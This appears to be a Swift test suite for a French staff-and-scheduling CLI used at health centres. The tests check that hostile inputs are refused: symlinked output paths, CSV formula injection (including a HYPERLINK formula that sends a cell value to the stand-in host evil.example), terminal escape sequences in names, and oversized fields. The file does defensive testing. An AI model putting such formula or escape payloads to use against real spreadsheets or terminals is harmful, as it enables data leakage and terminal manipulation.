import Foundation
import PQ
import TestSupport
import Testing

/// The CLI's own edges, attacked as a user would: `--sortie` through a link or over a file,
/// formulas and terminal escapes in names, a name of 700 KB, an import past the server's
/// statement timeout. Each attack fails in French with the database unchanged.
@Suite struct CLIEdgeTests {
    static let millas = "Centre de santé de Millas"

    /// `personnel ajouter` with these names, on Millas, as a nurse.
    static func addPerson(lastName: String, firstName: String = "Jean", serial: Int) -> [String] {
        [
            "personnel", "ajouter", "--nom", lastName, "--prenom", firstName, "--profession", "infirmier",
            "--rpps", rpps(serial), "--centre", millas, "--date-embauche", "2024-01-02",
        ]
    }

    static func mode(_ path: String) throws -> Int {
        try #require(FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
    }

    // MARK: - --sortie

    @Test func aSortieThatIsASymlinkToAFileOutsideIsRefusedAndTheFileOutsideKeepsItsContent() async throws {
        try await withRegistry(examples: true) { registry in
            let folder = try ScratchFiles()
            defer { folder.remove() }
            let outside = try folder.write(Data("ne pas toucher\n".utf8), name: "ailleurs.txt")
            let link = folder.folder.appendingPathComponent("personnel.csv").path
            try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: outside)
            let before = try registry.snapshot()
            for extra in [[], ["--remplacer"]] {
                let result = try registry.run(["personnel", "liste", "--format", "csv", "--sortie", link] + extra)
                try expectRefused(
                    result, mentioning: ["lien symbolique", "Rien n'a été écrit"], unchanged: registry, since: before,
                    context: "personnel liste \(extra)")
                #expect(try String(contentsOfFile: outside, encoding: .utf8) == "ne pas toucher\n")
                #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == outside)
            }
        }
    }

    @Test func aDanglingSymlinkIsNotFollowedToCreateTheFileItPointsTo() async throws {
        try await withRegistry(examples: true) { registry in
            let folder = try ScratchFiles()
            defer { folder.remove() }
            let target = folder.folder.appendingPathComponent("cree-par-le-lien.ics").path
            let link = folder.folder.appendingPathComponent("agenda.ics").path
            try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
            let before = try registry.snapshot()
            let result = try registry.run(["planning", "exporter", "--centre", Self.millas, "--sortie", link])
            try expectRefused(result, mentioning: ["lien symbolique"], unchanged: registry, since: before)
            #expect(!FileManager.default.fileExists(atPath: target))
        }
    }

    @Test func anExistingFileIsKeptWithoutRemplacerAndReplacedOwnerOnlyWithIt() async throws {
        try await withRegistry(examples: true) { registry in
            let folder = try ScratchFiles()
            defer { folder.remove() }
            let file = try folder.write(Data("ancien\n".utf8), name: "personnel.csv")
            try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: file)
            let before = try registry.snapshot()
            let refused = try registry.run(["personnel", "liste", "--format", "csv", "--sortie", file])
            try expectRefused(refused, mentioning: ["existe déjà", "--remplacer"], unchanged: registry, since: before)
            #expect(try String(contentsOfFile: file, encoding: .utf8) == "ancien\n")

            try registry.succeed(["personnel", "liste", "--format", "csv", "--sortie", file, "--remplacer"])
            #expect(try Data(contentsOf: URL(fileURLWithPath: file)) == Data(Examples.staffCSV.utf8))
            #expect(try Self.mode(file) == 0o600)
        }
    }

    @Test func filesWithNamesAreOwnerOnlyAndTheAggregatedReportIsNot() async throws {
        try await withRegistry(examples: true) { registry in
            let folder = try ScratchFiles()
            defer { folder.remove() }
            let path = { (name: String) in folder.folder.appendingPathComponent(name).path }
            try registry.succeed(["personnel", "liste", "--sortie", path("personnel.txt")])
            try registry.succeed(["audit", "--format", "csv", "--sortie", path("audit.csv")])
            try registry.succeed([
                "planning", "semaine", "--centre", Self.millas, "--semaine", "2026-W49", "--format", "csv", "--sortie",
                path("semaine.csv"),
            ])
            try registry.succeed(["planning", "exporter", "--centre", Self.millas, "--sortie", path("millas.ics")])
            for name in ["personnel.txt", "audit.csv", "semaine.csv", "millas.ics"] {
                #expect(try Self.mode(path(name)) == 0o600, "\(name)")
            }
            let previous = umask(0o022)
            defer { umask(previous) }
            try registry.succeed(["rapport", "progression", "--format", "csv", "--sortie", path("rapport.csv")])
            #expect(try Self.mode(path("rapport.csv")) == 0o644)
        }
    }

    // MARK: - formulas

    @Test func aFormulaInANameIsExportedAsTextAndTheListingImportsBackUnchanged() async throws {
        try await withRegistry(examples: true) { registry in
            let formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")"
            try registry.succeed(Self.addPerson(lastName: formula, firstName: "@SUM(1+1)", serial: 1))
            let csv = try registry.succeed(["personnel", "liste", "--format", "csv"]).stdout
            let line = try #require(csv.split(separator: "\n").first { $0.contains("HYPERLINK") })
            #expect(line.hasPrefix("\"'=HYPERLINK("), "\(line)")
            #expect(line.contains(";'@SUM(1+1);"), "\(line)")
            #expect(line.contains(";35;CDI;"), "\(line)")
            for cell in csv.split(separator: "\n").flatMap({ $0.split(separator: ";") }) {
                #expect(
                    !"=+@".contains(cell.trimmingCharacters(in: CharacterSet(charactersIn: "\"")).first ?? " "),
                    "\(cell)")
            }

            let folder = try ScratchFiles()
            defer { folder.remove() }
            let file = try folder.write(Data(csv.utf8), name: "personnel.csv")
            let before = try registry.snapshot()
            let reimport = try registry.succeed(["personnel", "importer", file])
            #expect(reimport.stdout.contains("0 créée(s), 0 mise(s) à jour, 7 inchangée(s)"), "\(reimport.stdout)")
            #expect(try registry.snapshot() == before)
        }
    }

    // MARK: - names

    @Test func anANSIEscapeInANameIsRefusedFromAFileAndFromAnOption() async throws {
        try await withRegistry(examples: true) { registry in
            let folder = try ScratchFiles()
            defer { folder.remove() }
            let before = try registry.snapshot()
            let file = try folder.write(lines: [
                staffHeader,
                "DUPONT\u{1B}[2J\u{1B}[31m;Jean;infirmier;;\(rpps(2));\(Self.millas);2024-01-02;;;",
            ])
            let imported = try registry.run(["personnel", "importer", file])
            try expectRefused(
                imported, mentioning: ["ligne 2, colonne nom", "U+001B", "Rien n'a été enregistré"],
                unchanged: registry, since: before, context: "fichier")
            #expect(!imported.stderr.contains("\u{1B}"))

            let added = try registry.run(Self.addPerson(lastName: "DUPONT", firstName: "Jean\u{9B}2J", serial: 3))
            try expectRefused(
                added, mentioning: ["option --prenom", "U+009B"], unchanged: registry, since: before, context: "option")
            #expect(!added.stderr.contains("\u{9B}"))

            let reason = try registry.run([
                "personnel", "depart", "--personne", "BERNARD Loïc", "--date", "2025-01-31",
                "--motif", "fin\u{1B}]0;titre\u{07}",
            ])
            try expectRefused(
                reason, mentioning: ["option --motif", "U+001B"], unchanged: registry, since: before, context: "motif")
        }
    }

    @Test func aSevenHundredKilobyteNameIsRefusedInFrenchWithExit65() async throws {
        try await withRegistry(examples: true) { registry in
            let folder = try ScratchFiles()
            defer { folder.remove() }
            let before = try registry.snapshot()
            let huge = String(repeating: "A", count: 700_000)
            let file = try folder.write(lines: [
                staffHeader, "\(huge);Jean;infirmier;;\(rpps(4));\(Self.millas);2024-01-02;;;",
            ])
            let result = try registry.run(["personnel", "importer", file])
            try expectRefused(
                result, mentioning: ["ligne 2, colonne nom", "texte trop long : 700000 caractères, 100 au plus"],
                unchanged: registry, since: before)
            #expect(result.stderr.count < 1_000, "\(result.stderr.count) characters on stderr")
        }
    }

    @Test func aPlaceLongerThanFiveHundredCharactersIsRefused() async throws {
        try await withPlanningFixture { registry in
            let before = try registry.snapshot()
            let result = try registry.run([
                "planning", "ajouter", "--centre", Self.millas, "--personne", "DENIS Claire",
                "--jour", "2026-12-01", "--debut", "08:30", "--fin", "12:00", "--activite", "visite_domicile",
                "--lieu", String(repeating: "x", count: 501),
            ])
            try expectRefused(
                result, mentioning: ["option --lieu", "501 caractères, 500 au plus"], unchanged: registry, since: before
            )
        }
    }

    // MARK: - statement timeout

    @Test func anImportPastTheStatementTimeoutSaysSoAndRecordsNothing() async throws {
        try await withRegistry(examples: true) { registry in
            let folder = try ScratchFiles()
            defer { folder.remove() }
            let lines = (10...3_009).map {
                "NOM\($0);Prénom\($0);infirmier;;\(rpps($0));\(Self.millas);2024-01-02;35;CDI;"
            }
            let file = try folder.write(lines: [staffHeader] + lines)
            let before = try registry.snapshot()
            let result = try runMasante(
                ["personnel", "importer", file, "--base", registry.database.conninfo],
                environment: ["PGOPTIONS": "-c statement_timeout=1"])
            try expectRefused(
                result, mentioning: ["l'import a dépassé le délai maximal", "rien n'a été enregistré"],
                unchanged: registry, since: before)
        }
    }

    // MARK: - passwords

    @Test func aSCRAMVerifierGivenAsAPasswordIsRefusedAndNoLoginIsCreated() async throws {
        try await withRegistry { registry in
            let login = "edge-\(UUID().uuidString.prefix(8).lowercased())"
            let before = try registry.snapshot()
            let verifier = "SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVk:c2VydmVy"
            let result = try runMasante(
                [
                    "utilisateur", "ajouter", "--identifiant", login, "--role", "rh", "--mot-de-passe-stdin",
                    "--base", registry.database.conninfo,
                ], input: verifier + "\n")
            try expectRefused(
                result, mentioning: ["option --mot-de-passe-stdin", "empreinte SCRAM-SHA-256"], unchanged: registry,
                since: before)
            let conn = try registry.database.connect()
            defer { conn.close() }
            #expect(try conn.query("SELECT count(*)::int FROM pg_roles WHERE rolname = \(login)").single(Int.self) == 0)
        }
    }
}
